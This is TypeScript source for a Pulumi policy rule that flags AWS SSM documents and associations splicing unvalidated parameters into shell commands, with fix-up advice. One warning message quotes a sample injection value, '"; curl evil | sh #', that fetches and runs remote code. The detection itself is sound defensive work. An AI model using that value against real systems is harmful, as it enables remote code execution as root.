/**
 * The ssm-document-injection rule: never splice `{{ param }}` into shell text unless the
 * parameter's allowedPattern is strict (strictPattern.ts).
 */
import type { ResourceValidationArgs, ResourceValidationPolicy } from "@pulumi/policy";
import { readConfig } from "./config";
import { DOCUMENT_INJECTION, DOCUMENT_INJECTION_DEFAULTS } from "./ruleConfig";
import { strictPatternProblem } from "./strictPattern";
import { asList, describe, isObject, parseDocument, str, unwrap } from "./util";

/** `{{ name }}` references in a text. */
function references(text: string): string[] {
    const out: string[] = [];
    const re = /\{\{\s*([^{}\s]+)\s*\}\}/g;
    let m: RegExpExecArray | null;
    while ((m = re.exec(text)) !== null) out.push(m[1]);
    return out;
}

interface ShellStep {
    where: string;
    text: string;
}

/** The shell text of a Command document (schema 1.2 runtimeConfig, 2.2 mainSteps) or an Automation runbook's aws:runCommand steps. */
function shellStepsOf(doc: Record<string, unknown>, cfg: typeof DOCUMENT_INJECTION_DEFAULTS): ShellStep[] {
    const out: ShellStep[] = [];
    const lines = (v: unknown): string =>
        asList(v)
            .filter((x): x is string => typeof x === "string")
            .join("\n");
    for (const [i, step] of asList(doc.mainSteps).entries()) {
        if (!isObject(step)) continue;
        const inputs = isObject(step.inputs) ? step.inputs : {};
        const name = typeof step.name === "string" ? step.name : `#${i}`;
        if (typeof step.action === "string" && cfg.shellActions.includes(step.action)) {
            out.push({ where: `step "${name}"`, text: lines(inputs.runCommand) });
        }
    }
    if (isObject(doc.runtimeConfig)) {
        for (const [action, plugin] of Object.entries(doc.runtimeConfig)) {
            if (!cfg.shellActions.includes(action) || !isObject(plugin)) continue;
            for (const [i, p] of asList(plugin.properties).entries()) {
                if (isObject(p)) out.push({ where: `${action} properties[${i}]`, text: lines(p.runCommand) });
            }
        }
    }
    for (const [i, step] of asList(doc.steps ?? (doc.schemaVersion === "0.3" ? doc.mainSteps : undefined)).entries()) {
        if (!isObject(step) || step.action !== "aws:runCommand" || !isObject(step.inputs)) continue;
        const docName = step.inputs.DocumentName;
        const params = step.inputs.Parameters;
        if (typeof docName === "string" && cfg.shellDocuments.includes(docName) && isObject(params)) {
            const name = typeof step.name === "string" ? step.name : `#${i}`;
            out.push({ where: `step "${name}"`, text: lines(params.commands) });
        }
    }
    return out;
}

/** Injection problems of one document's content: message fragments. */
export function documentInjectionProblems(doc: Record<string, unknown>, cfg = DOCUMENT_INJECTION_DEFAULTS): string[] {
    const params = isObject(doc.parameters) ? doc.parameters : {};
    const out: string[] = [];
    const seen = new Set<string>();
    for (const step of shellStepsOf(doc, cfg)) {
        for (const ref of references(step.text)) {
            const key = `${step.where}|${ref}`;
            if (seen.has(key)) continue;
            seen.add(key);
            if (/^(ssm|ssm-secure|resolve):/.test(ref)) {
                out.push(
                    `${step.where} splices the Parameter Store value {{ ${ref} }} into shell text: whoever can write that parameter runs commands as root. ` +
                        `Pass it as a document parameter with interpolationType "ENV_VAR" and a strict allowedPattern, or read it in the script with \`aws ssm get-parameter\``,
                );
                continue;
            }
            const def = params[ref];
            if (!isObject(def)) continue; // automation variables ({{ global:... }}, step outputs) and undeclared names
            const problem = strictPatternProblem(
                typeof def.allowedPattern === "string" ? def.allowedPattern : undefined,
                cfg.forbiddenCharacters,
            );
            if (problem === undefined) continue;
            const envVar = def.interpolationType === "ENV_VAR";
            out.push(
                `${step.where} splices {{ ${ref} }} into shell text and ${problem}` +
                    (envVar
                        ? ` (interpolationType "ENV_VAR" does not help while the script still says {{ ${ref} }})`
                        : "") +
                    `: a value such as \`"; curl evil | sh #\` would run as root. ` +
                    `Declare "${ref}" with interpolationType "ENV_VAR" and use "$SSM_${ref}" (quoted) in the script instead of {{ ${ref} }}, ` +
                    `and give it an anchored allowedPattern that cannot match shell metacharacters`,
            );
        }
    }
    return out;
}

export const ssmDocumentInjection: ResourceValidationPolicy = {
    name: DOCUMENT_INJECTION.name,
    description:
        "Checks whether SSM Command documents (and associations running shell documents) splice {{ param }} into shell text without a strict allowedPattern.",
    enforcementLevel: "mandatory",
    configSchema: DOCUMENT_INJECTION.schema,
    validateResource: (args: ResourceValidationArgs, reportViolation) => {
        const cfg = readConfig(args, DOCUMENT_INJECTION);
        const props = unwrap(args.props) as Record<string, unknown>;
        if (!isObject(props)) return;
        if (args.type === "aws:ssm/document:Document") {
            const content = str(props.content);
            if (content === undefined) return;
            const doc = parseDocument(content, str(props.documentFormat));
            if (!doc) return;
            for (const p of documentInjectionProblems(doc, cfg)) reportViolation(`${describe(args)}: ${p}.`);
        } else if (args.type === "aws:ssm/association:Association") {
            const docName = str(props.name);
            if (docName === undefined || !cfg.shellDocuments.includes(docName) || !isObject(props.parameters)) return;
            const commands = props.parameters.commands;
            const text = Array.isArray(commands)
                ? commands.filter((c) => typeof c === "string").join("\n")
                : (str(commands) ?? "");
            for (const ref of new Set(references(text))) {
                reportViolation(
                    `${describe(args)} runs ${docName} with {{ ${ref} }} spliced into its commands: whatever that value holds runs as root. ` +
                        `Use a Command document whose parameters have interpolationType "ENV_VAR" and a strict allowedPattern.`,
                );
            }
        }
    },
};
